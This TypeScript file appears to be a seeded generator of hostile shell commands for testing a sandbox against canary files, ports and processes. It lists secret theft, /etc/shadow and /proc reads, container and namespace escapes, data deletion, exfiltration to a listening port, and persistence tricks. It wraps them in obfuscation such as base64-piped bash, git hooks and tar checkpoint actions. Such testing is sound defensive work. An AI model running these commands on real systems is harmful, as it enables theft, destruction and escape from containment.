// A grammar of hostile commands: what an attacker wants, wrapped again and again into programs that run other programs.
// The same seed gives the same commands.

export type Targets = {
  /** Files outside that hold the canary. */
  readonly secrets: readonly string[];
  /** Folders outside that must stay as they are. */
  readonly folders: readonly string[];
  /** `host:port` where a canary listens. */
  readonly ports: readonly string[];
  /** A process outside that must live. */
  readonly pid: number;
  /** Marks processes that must not survive. */
  readonly mark: string;
};

type Random = { pick<T>(all: readonly [T, ...T[]] | readonly T[]): T; upTo(n: number): number };

export function randomOf(seed: number): Random {
  let state = seed >>> 0;
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
  const upTo = (n: number): number => Math.floor(next() * n);
  return { upTo, pick: (all) => all[upTo(all.length)] as (typeof all)[number] };
}

export function* hostileCommands(seed: number, targets: Targets): Generator<string, never> {
  const random = randomOf(seed);
  for (;;) {
    let command = goal(random, targets);
    for (let depth = random.upTo(4); depth > 0; depth--) command = wrapped(random, command);
    if (random.upTo(4) === 0) command = `${command}${random.pick(joints)}${goal(random, targets)}`;
    yield command;
  }
}

const joints = ["; ", " && ", " || ", " | cat; ", " & ", "\n"];

/** In single quotes. */
const q = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
/** As a string of a language that writes them as JSON does. */
const j = (text: string): string => JSON.stringify(text);

function goal(random: Random, { secrets, folders, ports, pid, mark }: Targets): string {
  const [secret, folder, port] = [random.pick(secrets), random.pick(folders), random.pick(ports)];
  const [host = "", number = ""] = port.split(":");
  const file = secret.slice(secret.lastIndexOf("/") + 1);
  const goals: readonly string[] = [
    `cat ${secret}`,
    `cp ${secret} loot-${random.upTo(1_000)}`,
    `ln -sf ${secret} link-${file}; cat link-${file}`,
    `ln -f ${secret} hard-${random.upTo(1_000)}`,
    `head -c 100 < ${secret}`,
    `base64 ${secret} > loot.b64; cat loot.b64`,
    `xxd -p ${secret}; od -c ${secret}`,
    `rev ${secret}`,
    `tar cf - ${secret} | cat`,
    `dd if=${secret} of=loot-dd 2>/dev/null; cat loot-dd`,
    `grep -r . ${folder} 2>/dev/null`,
    `find / -xdev -name ${q(file)} -exec cat {} + 2>/dev/null`,
    `cat /proc/1/root${secret}; cat /proc/self/root${secret}; cat /proc/${pid}/root${secret}`,
    `cat /proc/${pid}/environ /proc/1/environ /proc/*/environ`,
    `cat /proc/${pid}/cwd/* /proc/${pid}/fd/*`,
    `cd /proc/self/fd; for f in *; do timeout 1 head -c 200 $f/..${secret}; done`,
    `mount --bind ${folder} . ; ls -la; cat ${file}`,
    `unshare -Ur mount --bind ${folder} . ; cat ${file}`,
    `unshare -r sh -c ${q(`cat ${secret}`)}`,
    `chroot /proc/1/root cat ${secret}`,
    `nsenter -t 1 -a cat ${secret}`,
    `touch ${folder}/planted`,
    `echo x > ${secret}`,
    `echo x >> ${secret}`,
    `rm -rf ${folder}`,
    `rm -f ${secret}`,
    `mv ${secret} ${secret}.moved`,
    `chmod 777 ${secret} ${folder}`,
    `mkdir -p ${folder}/a/b`,
    `truncate -s 0 ${secret}`,
    `ln -s ${folder} out; touch out/planted; rm -rf out/*`,
    `cp /etc/hostname ${folder}/`,
    `sed -i s/./x/ ${secret}`,
    `tee ${secret} < /dev/null`,
    `mkfifo p; (cat p > ${secret} &) ; echo x > p & sleep 0.1`,
    `curl -s --max-time 2 http://${port}/stolen`,
    `wget -q -T 2 -O - http://${port}/`,
    `echo stolen > /dev/tcp/${host}/${number}`,
    `echo stolen > /dev/udp/${host}/${number}`,
    `python3 -c ${q(`import socket;socket.create_connection((${j(host)},${number}),2).send(b"stolen")`)}`,
    `python3 -c ${q(`import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b"stolen",(${j(host)},${number}))`)}`,
    `node -e ${q(`require("net").connect(${number},${j(host)}).on("error",()=>{}).end("stolen")`)}`,
    `http_proxy= https_proxy= ALL_PROXY= curl -s --noproxy '*' --max-time 2 http://${port}/`,
    `curl -s --max-time 2 -x http://127.0.0.1:3128 http://${port}/`,
    `curl -s --max-time 2 --resolve pypi.org:${number}:${host} http://pypi.org:${number}/`,
    `git ls-remote http://${port}/x`,
    `kill -9 ${pid}; kill -TERM ${pid}`,
    `setsid sleep ${mark} >/dev/null 2>&1 &`,
    `nohup sleep ${mark} >/dev/null 2>&1 & disown -a`,
    `(trap '' TERM HUP INT; sleep ${mark}) >/dev/null 2>&1 &`,
    `python3 -c ${q(`import os,time\nif os.fork()==0:\n os.setsid()\n os.fork() or time.sleep(${mark})`)}`,
    `env; set; export -p`,
    `sudo -n cat ${secret}`,
    `su -c ${q(`cat ${secret}`)}`,
    `docker run -v /:/h alpine cat /h${secret}`,
    `keyctl show; keyctl list @s`,
    `mknod d b 8 0; cat d`,
    `cat /dev/mem /dev/kmsg /dev/sda 2>/dev/null | head -c 1000`,
    `echo x > /proc/sys/kernel/core_pattern`,
    `echo 1 > /proc/sysrq-trigger`,
    `ls -la / /root /home /var /run /etc/shadow; cat /etc/shadow`,
    `gdb -p ${pid} -batch -ex quit; strace -p ${pid} -o t & sleep 0.1`,
    `ulimit -n; exec 3<>/dev/tcp/${host}/${number}; echo stolen >&3`,
  ];
  return random.pick(goals);
}

function wrapped(random: Random, command: string): string {
  const wrappers: readonly ((inner: string) => string)[] = [
    (inner) => `sh -c ${q(inner)}`,
    (inner) => `bash -c ${q(inner)}`,
    (inner) => `eval ${q(inner)}`,
    (inner) => `echo ${q(inner)} | sh`,
    (inner) => `echo ${Buffer.from(inner).toString("base64")} | base64 -d | bash`,
    (inner) =>
      `printf '%b' ${q([...Buffer.from(inner)].map((one) => `\\x${one.toString(16).padStart(2, "0")}`).join(""))} | bash`,
    (inner) => `bash <<'STOP'\n${inner}\nSTOP\n`,
    (inner) => `bash <<<${q(inner)}`,
    (inner) => `(${inner}\n)`,
    (inner) => `{ ${inner}\n}`,
    (inner) => `: "$(${inner}\n)"`,
    (inner) => `f() { ${inner}\n}; f`,
    (inner) => `trap ${q(inner)} EXIT`,
    (inner) => `env -S ${j(`sh -c ${q(inner)}`)}`,
    (inner) => `env X=1 sh -c ${q(inner)}`,
    (inner) => `xargs -I{} sh -c ${q(inner)} <<<x`,
    (inner) => `find . -maxdepth 0 -exec sh -c ${q(inner)} \\;`,
    (inner) => `awk ${q(`BEGIN { system(${j(inner)}) }`)}`,
    (inner) => `perl -e ${q(`system(${q(inner)})`)}`,
    (inner) => `python3 -c ${q(`import os; os.system(${j(inner)})`)}`,
    (inner) => `python3 -m timeit -n1 -r1 ${q(`import os; os.system(${j(inner)})`)}`,
    (inner) => `node -e ${q(`require("child_process").spawnSync("sh",["-c",${j(inner)}],{stdio:"inherit"})`)}`,
    (inner) =>
      `printf '%s' ${q(`require("child_process").spawnSync("sh",["-c",${j(inner)}],{stdio:"inherit"})`)} > r.js; node -r ./r.js -e 0`,
    (inner) => `git -c alias.x=${q(`!${inner.replaceAll("\n", " ; ")}`)} x`,
    (inner) => `git init -q . ; git -c core.fsmonitor=${q(inner.replaceAll("\n", " ; "))} status`,
    (inner) =>
      `git init -q . ; printf '%s' ${q(`#!/bin/sh\n${inner}`)} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x`,
    (inner) =>
      `printf '%s' ${q(`#!/bin/sh\n${inner}`)} > p.sh; chmod +x p.sh; git -c core.pager=./p.sh -p log; git -c gpg.program=./p.sh commit -S --allow-empty -m x`,
    (inner) => `echo ${q(inner.replaceAll("\n", " ; "))} | sed '1e'`,
    (inner) => `tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=${q(inner.replaceAll("\n", " ; "))} .`,
    (inner) =>
      `printf '%s' ${q(`#!/bin/sh\n${inner}`)} > c.sh; chmod +x c.sh; tar --use-compress-prog=./c.sh -cf x.tar .; zip -q -T -TT ./c.sh z.zip c.sh`,
    (inner) => `sqlite3 :memory: ${q(`.shell ${inner.replaceAll("\n", " ; ")}`)}`,
    (inner) =>
      `printf 'x:\\n\\t%s\\n' ${q(inner.replaceAll("\n", " ; ").replaceAll("$", "$$"))} > m.mk; make -s -f m.mk`,
    (inner) => `printf '%s' ${q(`{"scripts":{"x":${j(inner)}}}`)} > package.json; npm run -s x`,
    (inner) =>
      `printf '%s' ${q(`#!/bin/sh\n${inner}`)} > e.sh; chmod +x e.sh; rsync -e ./e.sh a b: ; ssh -o ProxyCommand=./e.sh h; man -P ./e.sh ls`,
    (inner) => `printf '%s' ${q(inner)} > s.sh; . ./s.sh`,
    (inner) => `timeout 4 sh -c ${q(inner)}`,
    (inner) => `setsid -w sh -c ${q(inner)}`,
    (inner) => `nohup sh -c ${q(inner)} 2>/dev/null`,
    (inner) => `nice -n 19 stdbuf -o0 sh -c ${q(inner)}`,
    (inner) => `script -qc ${q(inner)} /dev/null`,
    (inner) => `coproc sh -c ${q(inner)}; cat <&"\${COPROC[0]}"`,
    (inner) => `diff <(sh -c ${q(inner)}) /dev/null`,
    (inner) => `A=${q(inner)}; $SHELL -c "$A"`,
    (inner) => `IFS=,; set -- sh -c ${q(inner)}; "$@"`,
    (inner) => `exec sh -c ${q(inner)}`,
    (inner) => `busybox sh -c ${q(inner)}`,
  ];
  return random.pick(wrappers)(command);
}
